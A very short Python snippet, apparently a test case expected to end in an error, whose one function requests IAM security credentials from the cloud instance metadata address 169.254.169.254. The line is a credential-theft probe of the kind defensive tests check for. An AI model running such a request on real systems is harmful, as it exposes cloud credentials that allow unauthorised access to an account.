# ends: error
import memseep
def run():
    return memseep.http('http://169.254.169.254/latest/meta-data/iam/security-credentials/')
